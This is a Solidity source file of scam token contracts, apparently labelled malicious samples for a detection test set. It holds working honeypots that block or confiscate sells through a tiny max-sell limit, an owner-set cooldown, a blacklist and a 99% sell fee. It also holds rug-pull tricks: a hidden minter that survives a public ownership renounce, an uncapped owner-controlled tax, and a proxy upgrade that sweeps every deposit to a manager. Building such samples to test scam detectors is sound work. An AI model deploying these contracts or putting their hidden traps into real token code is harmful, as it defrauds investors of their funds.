// SPDX-License-Identifier: MIT
// Family C scam tokens. Honeypots: sells into the pair blocked by a max-sell limit, by an
// endless "anti-bot" cooldown, by a blacklist, or eaten by a 99% sell fee. Rugs: a hidden
// minter role after a public renounce, an owner who can raise the trading tax without a cap,
// and the malicious savings implementation a proxy is upgraded to.
pragma solidity 0.8.19;

import {CoinBase, SafeMove} from "../benign/Money.sol";
import {SavingsV1} from "../benign/Venues.sol";

abstract contract LaunchBase is CoinBase {
    address public owner;
    address public pair;
    mapping(address => bool) public exempt;

    constructor(string memory n, string memory s, uint256 supply) CoinBase(n, s) {
        owner = msg.sender;
        exempt[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function setExempt(address who, bool on) external onlyOwner {
        exempt[who] = on;
    }

    function renounceOwnership() external virtual onlyOwner {
        owner = address(0);
    }

    function _isSell(address from, address to) internal view returns (bool) {
        return to == pair && pair != address(0) && !exempt[from];
    }
}

contract MaxSellToken is LaunchBase {
    uint256 public maxSell;

    constructor(string memory n, string memory s, uint256 supply) LaunchBase(n, s, supply) {
        maxSell = supply / 1_000_000;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!_isSell(from, to) || value <= maxSell, "max sell");
        super._move(from, to, value);
    }
}

contract CooldownToken is LaunchBase {
    uint256 public cooldown = 5 minutes;
    mapping(address => uint256) public lastBuy;

    constructor(string memory n, string memory s, uint256 supply) LaunchBase(n, s, supply) {}

    function setCooldown(uint256 seconds_) external onlyOwner {
        cooldown = seconds_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) require(block.timestamp >= lastBuy[from] + cooldown, "cooldown");
        if (from == pair) lastBuy[to] = block.timestamp;
        super._move(from, to, value);
    }
}

contract BlacklistToken is LaunchBase {
    mapping(address => bool) public bots;

    constructor(string memory n, string memory s, uint256 supply) LaunchBase(n, s, supply) {}

    function markBots(address[] calldata who) external onlyOwner {
        for (uint256 i = 0; i < who.length; i++) bots[who[i]] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!bots[from], "bot");
        super._move(from, to, value);
    }
}

contract SellFeeToken is LaunchBase {
    uint256 public sellFeeBps = 9900;

    constructor(string memory n, string memory s, uint256 supply) LaunchBase(n, s, supply) {}

    function _move(address from, address to, uint256 value) internal override {
        if (_isSell(from, to)) {
            uint256 fee = (value * sellFeeBps) / 10_000;
            super._move(from, owner, fee);
            value -= fee;
        }
        super._move(from, to, value);
    }
}

/// Ownership is renounced in public; a "rewards keeper" set at deploy still mints.
contract KeeperToken is LaunchBase {
    address private immutable keeper;

    constructor(string memory n, string memory s, uint256 supply, address keeper_) LaunchBase(n, s, supply) {
        keeper = keeper_;
    }

    function distributeRewards(address to, uint256 amount) external {
        require(msg.sender == keeper);
        _mint(to, amount);
    }
}

/// Trading tax the owner may change at any time, with no cap.
contract TaxToken is LaunchBase {
    uint256 public buyTaxBps = 200;
    uint256 public sellTaxBps = 200;

    constructor(string memory n, string memory s, uint256 supply) LaunchBase(n, s, supply) {}

    function setTaxes(uint256 buyBps, uint256 sellBps) external onlyOwner {
        buyTaxBps = buyBps;
        sellTaxBps = sellBps;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 bps = _isSell(from, to) ? sellTaxBps : (from == pair && !exempt[to] ? buyTaxBps : 0);
        if (bps > 0) {
            uint256 fee = (value * bps) / 10_000;
            super._move(from, owner, fee);
            value -= fee;
        }
        super._move(from, to, value);
    }
}

/// What the savings proxy is upgraded to: same storage, plus a manager sweep.
contract SavingsDrain is SavingsV1 {
    function rebalance(address to) external {
        require(msg.sender == manager, "manager");
        totalDeposits = 0;
        SafeMove.eth(to, address(this).balance);
    }

    function version() external pure override returns (uint256) {
        return 3;
    }
}
